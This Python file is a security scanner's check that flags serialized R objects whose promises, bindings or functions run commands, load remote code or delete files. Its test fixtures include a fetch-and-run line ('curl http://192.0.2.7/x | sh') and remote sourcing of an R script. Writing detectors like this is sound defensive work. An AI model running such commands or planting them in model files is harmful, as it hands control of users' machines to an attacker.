"""`r-code`: code inside serialized objects of R that runs when somebody touches them."""

from __future__ import annotations

import re
from collections.abc import Iterator

from toadstone.core.check import Check, check
from toadstone.core.fact import Call, Code, Fact, Moment
from toadstone.core.finding import Finding, Severity
from toadstone.core.place import Place
from toadstone.core.value import Opaque, Symbol, Value, render_call
from toadstone.symbols.hostile import HOSTILE_COMMAND, QUERIES

_ALONE = frozenset({"promise", "active binding", "startup"})
"""Where code runs without being called by its name."""

_GRAVE = frozenset({"runs a command", "runs Python code", "evaluates text as code", "loads code from an address"})
_COMMANDS = frozenset(
    {"base.system", "base.system2", "base.shell", "base.shell.exec", "base.pipe", "processx.run", "callr.r", "base.Rscript"}
)
_PYTHON = frozenset({"reticulate.py_run_string", "base.py_run_string", "base.source_python", "base.py_eval"})
_SOURCES = frozenset({"base.source", "base.sys.source", "base.dyn.load", "base.library.dynam", "base.install.packages"})
_INSTALLS = re.compile(r"(?:base|remotes|devtools)\.install_\w+")
_NETWORK = frozenset(
    {"base.download.file", "utils.download.file", "base.url", "base.socketConnection", "base.serverSocket", "base.curl_download",
     "curl.curl_download", "curl.curl_fetch_memory", "httr.GET", "httr.POST", "base.GET", "base.POST", "base.browseURL"}
)  # fmt: skip
_FILES = frozenset(
    {"base.unlink", "base.file.remove", "base.file.rename", "base.file.copy", "base.write", "base.writeLines", "base.sink"}
)
_EVALUATES = frozenset({"base.eval", "base.evalq", "base.eval.parent"})
_BY_NAME = frozenset({"base.do.call", "base.match.fun", "base.get", "base.get0", "base.getFromNamespace"})
_PARSES = re.compile(r"\b(?:parse|str2lang|str2expression)\(")
_ACTS = re.compile(r"\b(?:system2?|shell|pipe|source|download\.file|socketConnection|unlink)\(")
_URL = re.compile(r"(?:https?|ftp)://", re.IGNORECASE)


@check(
    "r-code",
    severity=Severity.HIGH,
    reads=(Code, Call),
    languages=("r",),
    references=(
        "CVE-2024-27322",
        "CWE-502",
        "CWE-94",
        "CWE-506",
        "MITRE ATLAS 2026.08 AML.T0011.000",
        "OWASP ML 2023 ML06",
    ),
)
class RCode(Check):
    """An R object carries code that runs when somebody looks at it, or that does what no model needs.

    ## Why it matters
    `readRDS` and `load` only rebuild objects, but R is lazy: a *promise* is an expression that is evaluated the first time
    somebody looks at the variable, and before R 4.4.0 a file could bring promises of its own. Printing the object was enough.
    Active bindings call a function in the same way, and R runs a function called `.First` when it starts in the folder of a
    `.RData`. Ordinary functions inside a model run when it predicts.

    ## How it decides
    An unevaluated promise that is no variable of an environment and no argument of a function is `high`: R writes no other;
    with a command, code, a download or a deletion in it `critical`. Active bindings and start-up functions are `medium`, with
    such a call in them `high`; so are variables whose delayed expression runs a command or text. Functions of models are
    ordinary and silent; one that runs a command, evaluates text, loads code or opens a connection is `medium`, and `high`
    when the command stands in it and asks no question about the machine, when the text that it evaluates acts, or when it
    sources or installs code from an address.

    ## What it misses
    Names that are computed, and what the packages do that the object makes R load.

    ## Remedy
    Do not load the file with R before 4.4.0, and not at all if the code shown has no reason. Ask for PMML, ONNX or plain
    tables.

    ## References
    CVE-2024-27322; HiddenLayer, "R-bitrary Code Execution" (2024); R Internals, "Serialization Formats".
    """

    def examine(self, fact: Code | Call) -> Iterator[Finding]:
        """Judge one piece of code, or one call in it."""
        if isinstance(fact, Code):
            if fact.name in _ALONE:
                severity = Severity.HIGH if fact.name == "promise" else Severity.MEDIUM
                message = f"Touching this object runs code: {fact.summary}."
                yield self.finding(fact.place, message, severity=severity, key=f"carries {fact.name}", summary=fact.summary)
            return
        deed, severity = _judged(fact)
        if not deed:
            return
        code = render_call(fact.callee, fact.args, fact.kwargs)
        if fact.how == "delayed variable":
            severity = Severity.HIGH if deed in _GRAVE else Severity.MEDIUM
            message = f"Looking at a variable of this object {deed}: {code[:160]}."
        elif fact.how in _ALONE:
            severity = Severity.CRITICAL if fact.how == "promise" else Severity.HIGH
            message = f"Touching this object {deed}: {code[:160]}."
        else:
            message = f"A function inside the object {deed}: {code[:160]}."
        yield self.finding(fact.place, message, severity=severity, key=f"{deed} {code[:80]}", code=code, how=fact.how)

    @classmethod
    def bad(cls) -> Iterator[Fact]:
        """Give promises with and without a call, and functions that do what no model does."""
        place = Place("model.rds", offset=40)
        yield Code(place, "r", "promise", "an unevaluated promise: x")
        yield Call(place, Symbol("base", "system"), ("echo toadstone",), (), "promise", "r", Moment.USE)
        yield Call(place, Symbol("base", "system"), ("curl http://192.0.2.7/x | sh",), (), "function", "r", Moment.USE)
        yield Call(place, Symbol("base", "source"), ("http://192.0.2.7/x.R",), (), "function", "r", Moment.USE)
        yield Call(place, Symbol("base", "do.call"), ("system",), (), "active binding", "r", Moment.USE)

    @classmethod
    def good(cls) -> Iterator[Fact]:
        """Give what models have: functions, evaluation of expressions, and packages."""
        place = Place("model.rds", offset=40)
        yield Code(place, "r", "function", "a function: stats::dnorm(x)")
        yield Call(place, Symbol("base", "eval"), (Opaque("mf"), Opaque("parent.frame()")), (), "function", "r", Moment.USE)
        yield Call(place, Symbol("base", "library"), ("stats",), (), "function", "r", Moment.USE)
        yield Call(place, Symbol("os", "system"), ("echo",), (), "call", "python", Moment.USE)


def _judged(fact: Call) -> tuple[str, Severity]:
    """What a call does, and how bad that is inside an ordinary function; nothing for calls that models make."""
    name = str(fact.callee)
    given = [*fact.args, *(value for _, value in fact.kwargs)]
    texts = [value for value in given if isinstance(value, str)]
    if name in _BY_NAME and texts and f"base.{texts[0]}" in _COMMANDS | _NETWORK:
        name, texts = f"base.{texts[0]}", texts[1:]
    hostile = any(HOSTILE_COMMAND.search(text) for text in texts)
    remote = any(_URL.match(text.strip()) for text in texts)
    if name in _COMMANDS:
        told = bool(texts) and not QUERIES.fullmatch(" ".join(texts))
        return "runs a command", Severity.HIGH if hostile or told else Severity.MEDIUM
    if name in _PYTHON:
        return "runs Python code", Severity.HIGH if hostile else Severity.MEDIUM
    if name in _SOURCES or _INSTALLS.fullmatch(name):
        return ("loads code from an address", Severity.HIGH) if remote else ("loads code", Severity.MEDIUM)
    if name in _EVALUATES and any(_parses(value) for value in given):
        acts = any(isinstance(value, Opaque) and _ACTS.search(value.what) for value in given)
        return "evaluates text as code", Severity.HIGH if hostile or acts else Severity.MEDIUM
    if name in _NETWORK and (remote or not name.endswith((".url", ".GET", ".POST"))):
        return "opens a connection", Severity.MEDIUM
    if name in _FILES and fact.how in _ALONE | {"delayed variable"}:
        return "changes files", Severity.MEDIUM
    return "", Severity.LOW


def _parses(value: Value) -> bool:
    return isinstance(value, Opaque) and _PARSES.search(value.what) is not None
